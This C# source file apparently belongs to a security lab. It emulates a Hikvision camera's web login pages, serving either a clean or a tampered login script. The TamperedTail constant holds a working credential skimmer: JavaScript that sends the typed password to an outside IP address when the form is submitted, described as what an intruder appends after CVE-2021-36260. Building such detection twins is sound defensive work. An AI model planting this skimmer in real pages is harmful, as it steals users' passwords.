namespace FlaxGuard.Lab.Twins.Hikvision;

/// <summary>
/// The camera's web interface as its firmware serves it without a login: the root page sends the browser to
/// /doc/page/login.asp?_&lt;time&gt; by script (the URL camera inventories record), and the login page loads the
/// interface's scripts and stylesheets from /doc/. The file names and contents here are stand-ins, not Hikvision's.
/// The login page carries a per-request value in an inline script, as session-bound pages do.
/// </summary>
internal static class HikvisionWebFiles
{
    public const string LoginPage = "/doc/page/login.asp";
    public const string LoginScript = "/doc/script/login.js";

    public const string RootPage =
        "<!DOCTYPE html>\n<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=utf-8\">\n" +
        "<script>window.location.href = \"/doc/page/login.asp?_\" + (new Date()).getTime();</script>\n</head><body></body></html>\n";

    public const string CleanLoginScript =
        "define(function (require, exports) {\n  var auth = require('isapi/auth');\n" +
        "  exports.login = function (user, password) { return auth.sessionLogin('/ISAPI/Security/sessionLogin', user, password); };\n});\n";

    /// <summary>What an intruder with a shell (CVE-2021-36260) appends: the typed password goes to a foreign host.</summary>
    public const string TamperedTail =
        ";(function(){var f=document.forms[0];f&&f.addEventListener('submit',function(){new Image().src='//203.0.113.77/c?'+encodeURIComponent(f.password.value);});})();\n";

    private const string Styles = "body{font-family:Arial,sans-serif;background:#1f2d3d}.login-box{width:360px;margin:120px auto}\n";
    private const string Loader = "/* module loader stand-in */ var define=function(f){f(function(){return{}},{});};\n";

    public static string Login(string sessionTag) =>
        "<!DOCTYPE html>\n<html><head><title>Login</title>\n" +
        "<link rel=\"stylesheet\" type=\"text/css\" href=\"../css/login.css\">\n" +
        "<script type=\"text/javascript\" src=\"../script/lib/loader.js\"></script>\n" +
        "<script type=\"text/javascript\" src=\"../script/login.js\"></script>\n" +
        "<script>var szSessionTag = \"" + sessionTag + "\";</script>\n" +
        "</head><body><form class=\"login-box\"><input name=\"username\"><input name=\"password\" type=\"password\"></form></body></html>\n";

    /// <summary>The file at <paramref name="path"/> (content type, text), or null when there is none.</summary>
    public static (string ContentType, string Body)? Serve(string path, string loginScript, string sessionTag) => path switch
    {
        "/" => ("text/html", RootPage),
        LoginPage => ("text/html", Login(sessionTag)),
        LoginScript => ("application/javascript", loginScript),
        "/doc/script/lib/loader.js" => ("application/javascript", Loader),
        "/doc/css/login.css" => ("text/css", Styles),
        _ => null,
    };
}
